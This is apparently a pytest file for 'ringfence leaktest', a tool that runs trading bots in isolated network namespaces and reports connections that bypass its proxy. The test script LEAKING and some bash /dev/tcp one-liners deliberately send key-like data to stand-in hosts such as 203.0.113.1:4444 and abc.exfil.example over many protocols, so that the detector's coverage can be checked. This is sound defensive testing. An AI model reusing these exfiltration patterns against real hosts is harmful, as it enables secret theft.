"""`ringfence leaktest` in real namespaces: small programs that leak in every way, and clients that are half pointed."""

import asyncio
import json
import os
import subprocess
import sys
import traceback
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from ringfence.cli import certificates
from ringfence.cli import leaktest as leaktest_command
from ringfence.leaktest import apart, inside
from ringfence.leaktest.asked import Asked, Door
from ringfence.model.names import ExchangeId
from ringfence.settings import Listener, Names, Proxy, Settings, load
from ringfence.vault.vault import Vault
from tests.cli.terminal import Said, program, ringfence
from tests.deployment import PASSPHRASE, Deployment
from tests.ports import free_ports

NOBODY = 65534
PAPER = ExchangeId("paper-binance")

LEAKING = """
import socket, subprocess, sys, urllib.request

def try_(what):
    try:
        what()
    except OSError as error:
        print(type(error).__name__, file=sys.stderr)

def datagram(address, port, family=socket.AF_INET):
    socket.socket(family, socket.SOCK_DGRAM).sendto(b"the key", (address, port))

def stream(address, port, said):
    with socket.create_connection((address, port), 5) as made:
        made.send(said)

try_(lambda: urllib.request.urlopen("https://tls.example/secret?key=abc", timeout=5))
try_(lambda: urllib.request.urlopen("http://plain.example/secret?key=abc", timeout=5))
try_(lambda: stream("203.0.113.1", 4444, b"raw words"))
try_(lambda: stream("2001:db8::1", 22, b"SSH-2.0-x\\r\\n"))
try_(lambda: datagram("203.0.113.2", 5555))
try_(lambda: datagram("2001:db8::2", 443, socket.AF_INET6))
try_(lambda: datagram("8.8.8.8", 53))
try_(lambda: socket.getaddrinfo("abc.exfil.example", 1))
try_(lambda: stream("127.0.0.1", 3, b"x"))
if "raw" in sys.argv:
    try_(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 253).sendto(b"x", ("203.0.113.3", 0)))
child = "import socket; socket.create_connection(('203.0.113.4', 8443), 5).send(b'\\\\x05\\\\x01\\\\x00')"
subprocess.run([sys.executable, "-c", child])
urllib.request.urlopen(sys.argv[1], timeout=5)
"""

TRIED = {
    ("tls.example", 443, "TLS"),
    ("plain.example", 80, "HTTP GET"),
    ("", 4444, "unknown"),
    ("", 22, "SSH"),
    ("", 5555, "unknown"),
    ("", 443, "QUIC"),
    ("abc.exfil.example", 53, "a name look-up"),
    ("tls.example", 53, "a name look-up"),
    ("plain.example", 53, "a name look-up"),
    ("", 53, "a name look-up"),
    ("", 3, "a port of this machine"),
    ("", 8443, "SOCKS 5"),
}


def may_leave() -> bool:
    """Say whether this machine lets us have a network of our own."""
    done = subprocess.run(["unshare", "--net", "true"], capture_output=True, check=False)
    return done.returncode == 0 or subprocess.run(["unshare", "-Urn", "true"], check=False).returncode == 0


@pytest.fixture(scope="module")
def deployment(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Deployment]:
    if not may_leave():
        pytest.skip("this machine gives nobody a network of his own")
    made = Deployment.written(tmp_path_factory.mktemp("leak") / "h")
    with (made.home / "ringfence.toml").open("a") as file:
        file.write(f"[proxy]\nport = {free_ports(1)[0]}\n")
    made.settings = load(made.home)
    made.begin(("grid",))
    with Vault.open(made.settings.vault, lambda: bytearray(PASSPHRASE)) as vault:
        certificates.make(made.settings, vault)
    with made:
        yield made


def pointed(deployment: Deployment, client: str, mode: str) -> Any:
    words = ("point", client, "--mode", mode, "--show-secret", "--json")
    said = ringfence(deployment.home, *words, secrets={"passphrase": PASSPHRASE})
    assert said.code == 0, said.err
    return said.json()


def leaktest(deployment: Deployment, *words: str) -> tuple[int, Any]:
    done = program(deployment.home, "leaktest", "--json", *words)
    assert done.code in {0, 1}, done.err
    return done.code, done.json()


def tried(report: Any) -> set[tuple[str, int, str]]:
    return {(row["name"], row["port"], row["what"]) for row in report["leaks"]}


def test_every_way_out_is_seen_and_nothing_that_was_said_is_kept(deployment: Deployment, tmp_path: Path) -> None:
    (tmp_path / "bot.py").write_text(LEAKING)
    raw = ["raw"] if os.getuid() == 0 else []
    words = ("--", sys.executable, str(tmp_path / "bot.py"), f"{deployment.url}/api/v3/time", *raw)
    code, report = leaktest(deployment, *words)
    assert code == 1
    assert (report["verdict"], report["code"], report["ringfence"]) == ("leaks", 0, 1)
    assert tried(report) == TRIED | ({("", 0, "IP protocol 253")} if raw else set())
    assert not any(word in json.dumps(report) for word in ("secret", "abc&", "key=", "raw words"))


ORDER = """
import sys, ccxt
exchange = ccxt.binance(eval(open(sys.argv[1]).read()))
exchange.create_order("BTC/USDT", "limit", "buy", 0.001, float(sys.argv[2]))
"""


@pytest.mark.parametrize("mode", ["base-url", "proxy"])
def test_a_client_that_is_pointed_whole_is_clean(deployment: Deployment, tmp_path: Path, mode: str) -> None:
    (tmp_path / "config").write_text(repr(pointed(deployment, "ccxt", mode)["config"]))
    (tmp_path / "bot.py").write_text(ORDER)
    price = str(round(deployment.mid() * 0.98, 2))
    bot = (sys.executable, str(tmp_path / "bot.py"), str(tmp_path / "config"), price)
    code, report = leaktest(deployment, "--", *bot)
    assert (code, report["verdict"], report["code"], report["leaks"]) == (0, "clean", 0, [])
    assert report["ringfence"] >= 1
    assert report["mode"] == mode


WATCHING = """
import asyncio, sys, ccxt.pro

async def go():
    exchange = ccxt.pro.binance(eval(open(sys.argv[1]).read()))
    await exchange.load_markets()
    try:
        await asyncio.wait_for(exchange.watch_ticker("BTC/USDT"), 5)
    except (ccxt.BaseError, TimeoutError) as error:
        print(type(error).__name__)
    finally:
        await exchange.close()

asyncio.run(go())
"""


@pytest.mark.parametrize("half", [False, True])
def test_ccxt_pro_with_a_proxy_for_http_alone_leaks_its_websocket(
    deployment: Deployment, tmp_path: Path, half: bool
) -> None:
    config = pointed(deployment, "ccxt-pro", "proxy")["config"]
    if half:
        del config["wssProxy"]
    (tmp_path / "config").write_text(repr(config))
    (tmp_path / "bot.py").write_text(WATCHING)
    code, report = leaktest(deployment, "--", sys.executable, str(tmp_path / "bot.py"), str(tmp_path / "config"))
    assert report["mode"] == "proxy"
    if not half:
        assert (code, report["leaks"], report["hints"]) == (0, [], [])
        return
    assert code == 1
    assert {row["name"] for row in report["leaks"]} == {"stream.binance.com"}
    assert ("stream.binance.com", 9443, "TLS") in tried(report)
    [hint] = report["hints"]
    assert "wssProxy is what brings it in" in hint


def test_a_port_that_the_owner_names_is_let_through_and_proves_nothing(deployment: Deployment) -> None:
    assert deployment.settings.paper is not None
    port = str(deployment.settings.paper.plain_port)
    words = ("--allow", port, "--", "bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{port}")
    code, report = leaktest(deployment, *words)
    assert (code, report["verdict"], report["code"], report["leaks"]) == (1, "unproven", 0, [])


def test_every_door_of_the_deployment_is_let_through_and_those_that_are_named() -> None:
    names = Names("127.0.0.91", (PAPER,))
    settings = Settings(Path("/h"), (Listener("paper", PAPER, 8300),), proxy=Proxy(8118), names=names)
    doors = [(door.address, door.port, door.mode) for door in leaktest_command._doors(settings, [5432])]
    assert doors == [
        ("127.0.0.1", 8300, "base-url"),
        ("127.0.0.1", 8118, "proxy"),
        ("127.0.0.91", 443, "names"),
        ("127.0.0.91", 9443, "names"),
        ("127.0.0.91", 8443, "names"),
        ("127.0.0.1", 5432, ""),
    ]


def test_a_command_that_never_comes_here_has_proven_nothing(deployment: Deployment) -> None:
    code, report = leaktest(deployment, "--", "true")
    assert (code, report["verdict"], report["leaks"]) == (1, "unproven", [])


def test_a_bot_that_never_ends_is_ended_and_so_is_what_it_left_behind(deployment: Deployment, tmp_path: Path) -> None:
    mark = f"sleep 98765{os.getpid()}"
    code, report = leaktest(deployment, "--seconds", "1", "--", "sh", "-c", f"setsid {mark} & sleep 1000")
    assert (code, report["code"]) == (1, None)
    running = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True, check=True).stdout
    assert mark not in running


def test_it_says_in_words_what_went_past(deployment: Deployment) -> None:
    bash = "exec 3<>/dev/tcp/203.0.113.9/25 && printf 'x' >&3"
    said = program(deployment.home, "leaktest", "--bot", "grid", "--", "bash", "-c", bash)
    assert said.code == 1
    assert "bot grid ended with code 0; it never came to Ringfence, and 1 time past it" in said.out
    assert "203.0.113.9" in said.out
    assert "mail" in said.out


@pytest.mark.parametrize(
    ("words", "code", "why"),
    [
        (("--", "/no/such/bot"), 2, "cannot be run: No such file"),
        (("--client", "nobody", "--", "true"), 2, "there is no client nobody"),
        (("--allow", "70000", "--", "true"), 2, "70000 is no port"),
        (("--seconds", "0", "--", "true"), 2, "greater than or equal to 1"),
    ],
)
def test_what_cannot_be_meant_is_refused(deployment: Deployment, words: tuple[str, ...], code: int, why: str) -> None:
    said = program(deployment.home, "leaktest", *words)
    assert said.code == code
    assert why in said.err


def test_where_nothing_of_ringfence_runs_nothing_is_tried(home: Path) -> None:
    said: Said = program(home, "leaktest", "--", "true")
    assert said.code == 3
    assert "Ringfence is not running" in said.err


def _as_nobody(handle: int) -> None:
    """What the process in the namespace does, for a user who may do nothing."""
    os.setgroups([])
    os.setresgid(NOBODY, NOBODY, NOBODY)
    os.setresuid(NOBODY, NOBODY, NOBODY)
    apart._LIBC.prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: a change of user takes /proc/self away
    apart.leave()
    apart.lay_wires()
    said = "GET / HTTP/1.1\\r\\nHost: a.example\\r\\n\\r\\n"
    bash = f"exec 3<>/dev/tcp/203.0.113.9/80 && printf '{said}' >&3; cat <&3"
    asked = Asked(("bash", "-c", bash), 10.0, (Door("127.0.0.1", 8300, "base-url"),), "/nowhere", quiet=True)
    heard = asyncio.run(inside.play(asked))
    os.write(handle, repr([(row.name, row.port, row.what) for row in heard.rows]).encode())


@pytest.mark.skipif(os.getuid() != 0, reason="only root can become somebody else; the other tests run as who we are")
def test_somebody_who_is_not_root_can_do_it_too(deployment: Deployment) -> None:
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            _as_nobody(writing)
        except BaseException:  # noqa: BLE001  # the child must not go on as a test
            os.write(writing, traceback.format_exc().encode())
        os._exit(0)
    os.close(writing)
    os.waitpid(child, 0)
    with os.fdopen(reading) as told:
        assert told.read() == "[('a.example', 80, 'HTTP GET')]"
